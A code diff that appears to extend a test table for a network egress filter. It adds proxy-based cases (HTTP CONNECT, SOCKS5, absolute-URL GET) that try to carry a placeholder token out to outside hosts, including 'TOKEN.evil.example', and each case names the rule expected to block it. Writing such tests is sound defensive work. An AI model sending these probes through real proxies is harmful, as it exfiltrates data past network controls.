@@ -142,7 +142,42 @@ TCP = [
     Row("doh", RULES, send("tcp", PUBLIC_DNS, 443, hello("TOKEN.example"))),
 ]
 
-ROWS = NAMES + TCP
+# ---- by the proxy inside ----
+
+GREETING, CONNECT5 = b"\5\1\0", b"\5\1\0"
+
+
+def proxy(*pieces):
+    return send("tcp", RESOLVER, 3128, *pieces)
+
+
+def connect(target, then):
+    return proxy(f"CONNECT {target} HTTP/1.0\r\n\r\n", ("+", then))
+
+
+def socks_name(name, port, then):
+    return proxy(GREETING, ("+", CONNECT5 + b"\3" + bytes([len(name)]) + name.encode() +
+                            struct.pack("!H", port)), ("+", then))
+
+
+PROXY = [
+    Row("proxy-connect", RULES, connect(f"{OTHER}:9000", "TOKEN")),
+    Row("proxy-connect-v6", RULES, connect(f"[{OTHER6}]:9000", "TOKEN")),
+    Row("proxy-port", RULES, connect(f"{NAME}:22", "TOKEN")),
+    Row("proxy-url", RULES, proxy(f"GET http://{OTHER}:9000/TOKEN HTTP/1.0\r\n\r\n")),
+    Row("proxy-socks", RULES, proxy(GREETING, ("+", CONNECT5 + b"\1" + bytes(
+        int(n) for n in OTHER.split(".")) + struct.pack("!H", 9000)), ("+", "TOKEN"))),
+    Row("proxy-name", ("net:connect",), connect("TOKEN.evil.example:443", "")),
+    Row("proxy-lan", ("net:special",), connect("lan.example:9000", "TOKEN"),
+        allow=ALLOW + ("lan.example:9000",)),
+    Row("proxy-hello", ("net:hello",), connect(f"{NAME}:443", hello("TOKEN.example"))),
+    Row("proxy-host", ("net:http",), socks_name(NAME, 80, (
+        "GET / HTTP/1.1\r\nHost: TOKEN.example\r\n\r\n"))),
+    Row("proxy-loopback", ("net:loopback",), connect("127.0.0.1:9000", "TOKEN"),
+        allow=ALLOW + ("127.0.0.1:9000",)),
+]
+
+ROWS = NAMES + TCP + PROXY
 
 ALLOWED = [
     Row("name", (), send("tcp", NAME, 9000, "TOKEN")),
